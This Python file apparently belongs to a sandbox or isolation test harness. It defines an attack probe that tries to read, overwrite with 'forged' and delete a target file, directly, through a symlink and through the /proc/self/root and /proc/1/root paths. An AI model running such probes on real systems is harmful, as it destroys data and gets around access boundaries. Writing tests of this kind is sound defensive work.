"""Reads, changes and deletes the file that is its target, directly and through symbolic links."""

import tempfile
from pathlib import Path

from attack import Attack


class Files(Attack):
    def attempt(self) -> str:
        target = Path(self.target.replace("|", ""))
        link = Path(tempfile.mkdtemp()) / "link"
        link.symlink_to(target)
        for path in (target, link, Path(f"/proc/self/root{target}"), Path(f"/proc/1/root{target}")):
            for gain, act in (("read", self.read), ("changed", self.change), ("deleted", Path.unlink)):
                try:
                    act(path)
                except OSError:
                    continue
                if path != link or gain != "deleted":
                    return f"a {gain} file"
        return ""

    @staticmethod
    def read(path: Path) -> None:
        path.read_bytes()

    @staticmethod
    def change(path: Path) -> None:
        if not path.parent.exists():
            raise FileNotFoundError(path)
        with path.open("r+b") as file:
            file.write(b"forged")
